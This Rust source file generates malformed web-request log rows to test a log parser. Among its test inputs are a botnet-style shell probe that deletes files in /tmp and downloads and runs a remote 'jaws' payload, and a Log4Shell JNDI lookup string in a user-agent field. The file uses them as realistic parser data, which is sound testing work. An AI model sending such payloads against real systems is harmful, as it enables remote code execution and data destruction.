//! Odd lines, each of a sort that was seen in real logs. Every one of them is still a row.

use super::dice::Dice;
use super::request::{Row, Texts};
use super::text::push;

/// Makes a row odd in one way or another; `is_latest` if it has every field known today.
pub(super) fn make(dice: &mut Dice, row: &mut Row, texts: &mut Texts, is_latest: bool) {
    match dice.below(16) {
        0 | 1 => {
            replace_request(
                texts,
                "GET http://192.0.2.10:80/shell?cd+/tmp;rm+-rf+*;wget+ 192.0.2.9/jaws;sh+/tmp/jaws HTTP/1.1",
            );
            row.agent = "Hello, world";
            row.classification = ["Acceptable", "SpaceInUri"];
            if !texts.redirect.is_empty() {
                texts.redirect.clear();
                push(
                    &mut texts.redirect,
                    "https://192.0.2.10:443/shell?cd+/tmp;rm+-rf+*;wget+ 192.0.2.9/jaws;sh+/tmp/jaws",
                );
            }
        }
        2 => row.agent = "\\x22Mozilla/5.0 (Linux; \\xC3\\x88tude \\x5C Test)\\x22",
        3 => row.agent = "${jndi:ldap://${java:version}.attack.example.com/a}",
        4 => row.agent = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_4 like Mac OS X)  Mobile/15E148  Safari//ncdkkdmsgv",
        5 => replace_request(texts, "GET http://[::ffff:192.0.2.10]:80/ HTTP/1.1"),
        6 => replace_request(texts, "GET http://gateway_1.example.com:80//a{b}//c HTTP/1.0 "),
        7 => {
            replace_request(texts, "- http://192.0.2.10:80-/ ");
            row.received = 0;
        }
        8 => replace_request(texts, "- - - "),
        9 => replace_request(
            texts,
            "SSTP_DUPLEX_POST https://192.0.2.10:443/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1",
        ),
        10 => replace_request(texts, "GET https://shop.example.com:443/?q=%22x%22&n=\\x22x\\x22 HTTP/1.1"),
        11 => row.actions = "",
        12 => row.classification = ["Ambiguous", "UndefinedContentLengthSemantics"],
        13 => row.domain = " www.example.com",
        14 => row.surplus = " -",
        // The fields of tomorrow.
        _ => row.surplus = if is_latest { " \"tomorrow's field\"" } else { " -" },
    }
}

fn replace_request(texts: &mut Texts, request: &str) {
    texts.request.clear();
    push(&mut texts.request, request);
}
